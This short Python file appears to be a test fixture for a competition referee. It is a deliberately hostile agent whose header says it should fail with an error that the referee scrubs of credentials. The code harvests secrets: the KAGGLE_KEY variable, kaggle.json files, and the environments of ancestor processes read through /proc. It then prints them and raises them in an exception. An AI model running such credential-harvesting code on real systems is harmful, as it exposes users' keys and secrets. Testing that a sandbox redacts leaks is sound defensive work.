# expected: error (RuntimeError carrying whatever credentials it could find, which the referee scrubs)
import os


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read().decode(errors="replace")
    except OSError:
        return ""


def agent(obs, config):
    found = [os.environ.get("KAGGLE_KEY", ""), _read(os.path.expanduser("~/.kaggle/kaggle.json"))]
    pid = os.getpid()
    for _ in range(6):  # every ancestor's environment, and the kaggle.json under its HOME
        pid = int(_read(f"/proc/{pid}/stat").rsplit(")", 1)[1].split()[1] or 0)
        if pid <= 1:
            break
        env = _read(f"/proc/{pid}/environ")
        found.append(env.replace("\0", " "))
        for item in env.split("\0"):
            if item.startswith("HOME="):
                found.append(_read(item[5:] + "/.kaggle/kaggle.json"))
    text = " | ".join(x for x in found if x)
    print(text)
    raise RuntimeError(text.replace("\n", " "))
